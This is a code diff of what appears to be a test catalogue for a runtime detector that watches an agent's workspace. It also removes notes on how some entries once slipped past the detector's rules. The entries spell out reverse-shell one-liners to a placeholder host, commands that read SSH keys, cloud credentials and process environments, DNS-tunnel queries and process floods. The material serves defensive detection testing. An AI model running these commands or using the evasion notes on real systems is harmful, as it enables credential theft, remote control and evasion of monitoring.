@@ -101,31 +101,17 @@ DATA_B64 = "/workspace/.attack/data.b64"  # the same, base64 (busybox wget posts
 
 
 # Why an entry is not caught at its level today (each an expected failure in the tests).
-HALF_CLOSED = (
-    "the reading nc's connection is half-closed (FIN_WAIT2: its stdin was /dev/null, it "
-    "still reads) and the behaviour rules look at ESTABLISHED connections only"
-)
-UDP_STDIO = (
-    "a UDP socket on stdio: the behaviour rule takes TCP connections only (the plain form is "
-    "caught by its /dev/udp command line)"
-)
-NO_FLOOD_RATE = "no rule for the rate of a process flood that stays under the limit"
-ONE_LONG_LABEL = (
-    "one query: the tunnel rule wants 20+ distinct names under one domain, and the 40+ "
-    "character label detector (detect.dns_tunnel) is never called"
-)
-SLOW_DRIP = "15 names, 2.5 a second: under the tunnel rule's 20 names and the volume rule's rate"
 SHORT_COMMAND = (
-    "a command of a few milliseconds is caught only when the exec watcher reads its command "
-    "line before it ends (files opened are not watched yet)"
+    "a command of a few milliseconds that opens no credential file is caught only when the "
+    "exec watcher reads its command line before it ends"
 )
 FORK_RATE = (
     "the exec loop's fork rate, slowed by a busy machine, may stay under the 300-a-second "
     "surge the rule looks for"
 )
-OPENED_FILES = (
-    "a file held open is seen at a sweep; a read of a few milliseconds between two sweeps is "
-    "not, and its command line names nothing"
+ENVIRON_RACE = (
+    "the one other environ the agent may read is its parent shell's, opened as the loop "
+    "reaches it; missed once in six runs (not understood yet)"
 )
 
 
@@ -144,7 +130,7 @@ REVERSE_SHELLS = [
     ),
     # The reading nc's stdin is /dev/null: it half-closes its connection (FIN_WAIT2) at once,
     # and still reads the attacker's commands.
-    _rs("nc-sh-nc-half-closed", "@nc@ @H@ 443 | @sh@ 2>&1 | @nc@ @H@ 80", gap=HALF_CLOSED),
+    _rs("nc-sh-nc-half-closed", "@nc@ @H@ 443 | @sh@ 2>&1 | @nc@ @H@ 80"),
     _rs("nc-sh-nc", "sleep 30 | @nc@ @H@ 443 | @sh@ 2>&1 | @nc@ @H@ 80"),
     _rs("telnet-sh-telnet", "sleep 30 | @telnet@ @H@ 443 | @sh@ 2>&1 | @telnet@ @H@ 80"),
     _rs("awk-system-runner", "sleep 30 | @nc@ @H@ 443 | @awk@ '{ system($0) }' 2>&1 | @nc@ @H@ 80"),
@@ -170,8 +156,6 @@ REVERSE_SHELLS = [
         "@bash@ -i >& /dev/udp/@H@/9 0>&1",
         shell="bash",
         needs=("bash",),
-        gap=UDP_STDIO,
-        gap_in=("script",),
     ),
     _rs(
         "perl-socket-443",
@@ -251,7 +235,6 @@ PROCESS_STORMS = [
         "i=0; while [ $i -lt 250 ]; do sleep 60 & sleep 0.02; i=$((i+1)); done; wait",
         "high",
         processes=1000,
-        gap=NO_FLOOD_RATE,
     ),
 ]
 
@@ -304,7 +287,6 @@ DNS_TUNNELS = [
         "nslookup 3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b99.t.coi-test",
         "warning",
         network="allowlist",
-        gap=ONE_LONG_LABEL,
     ),
     Entry(
         DNS,
@@ -323,7 +305,6 @@ DNS_TUNNELS = [
         "warning",
         network="allowlist",
         window=8.0,
-        gap=SLOW_DRIP,
     ),
     Entry(
         DNS,
@@ -347,42 +328,30 @@ def _cr(name: str, script: str, **kw: object) -> Entry:
 
 
 CREDENTIAL_HUNTS = [
-    _cr("cat-ssh-key", "@cat@ /home/code/.ssh/id_rsa >/dev/null", racy=SHORT_COMMAND),
-    _cr("cat-aws-credentials", "@cat@ ~/.aws/credentials >/dev/null", racy=SHORT_COMMAND),
-    _cr(
-        "cat-git-credentials-netrc",
-        "@cat@ ~/.git-credentials ~/.netrc >/dev/null",
-        racy=SHORT_COMMAND,
-    ),
-    _cr("cat-gh-token", "@cat@ ~/.config/gh/hosts.yml >/dev/null", racy=SHORT_COMMAND),
+    # Files are seen as they are opened (fanotify), however short the read.
+    _cr("cat-ssh-key", "@cat@ /home/code/.ssh/id_rsa >/dev/null"),
+    _cr("cat-aws-credentials", "@cat@ ~/.aws/credentials >/dev/null"),
+    _cr("cat-git-credentials-netrc", "@cat@ ~/.git-credentials ~/.netrc >/dev/null"),
+    _cr("cat-gh-token", "@cat@ ~/.config/gh/hosts.yml >/dev/null"),
+    # find opens no key, it names them: only its command line tells.
     _cr("find-private-keys", "find / -xdev -name 'id_rsa*' 2>/dev/null", racy=SHORT_COMMAND),
-    _cr(
-        "grep-home-for-secrets",
-        "grep -r aws_secret_access_key /home/code >/dev/null 2>&1",
-        gap=OPENED_FILES,
-    ),
+    _cr("grep-home-for-secrets", "grep -r aws_secret_access_key /home/code >/dev/null 2>&1"),
     _cr(
         "shell-builtin-read",
         'cd; for f in .s?h/* .a?s/*; do while read -r l; do :; done < "$f"; done',
-        gap=OPENED_FILES,
     ),
     _cr(
         "tar-home-stores",
         "cd /home/code && tar -cf /tmp/loot.tar .ssh .aws .git-credentials .netrc",
-        racy=SHORT_COMMAND,
     ),
-    _cr(
-        "proc-environ-cat",
-        "@cat@ /proc/*/environ 2>/dev/null | tr '\\0' '\\n' >/dev/null",
-        racy=SHORT_COMMAND,
-    ),
+    _cr("proc-environ-cat", "@cat@ /proc/*/environ 2>/dev/null | tr '\\0' '\\n' >/dev/null"),
     _cr(
         "proc-environ-builtin",
         'for f in /proc/[0-9]*/environ; do read -r x < "$f"; done 2>/dev/null',
         encode=True,
-        # Caught in the final CI run (a sweep found a file open): a race, not a gap.
-        racy=OPENED_FILES,
+        racy=ENVIRON_RACE,
     ),
+    # Opens no file: only its command line tells.
     _cr("env-grep-secrets", "env | grep -i -E 'key|token|secret' >/dev/null", racy=SHORT_COMMAND),
 ]
 
@@ -425,10 +394,6 @@ BENIGN_WORKLOADS = [
         f"{_TREE} && tar -czf /tmp/t.tgz -C /tmp tree && rm -rf /tmp/tree && "
         "tar -xzf /tmp/t.tgz -C /tmp && ls /tmp/tree | wc -l",
         window=60.0,
-        # A false alarm today: reads are counted by rchar, which includes reads from pipes,
-        # so the tree tar hands gzip (and gzip hands tar back) is counted again.
-        gap="a false alarm today (Large read burst, paused): reads through a pipe count as "
-        "reads, so tar|gzip counts the 30 MB tree two and three times over",
     ),
     _bn("find-over-a-tree", "find / -xdev -type f 2>/dev/null | wc -l"),
     _bn(
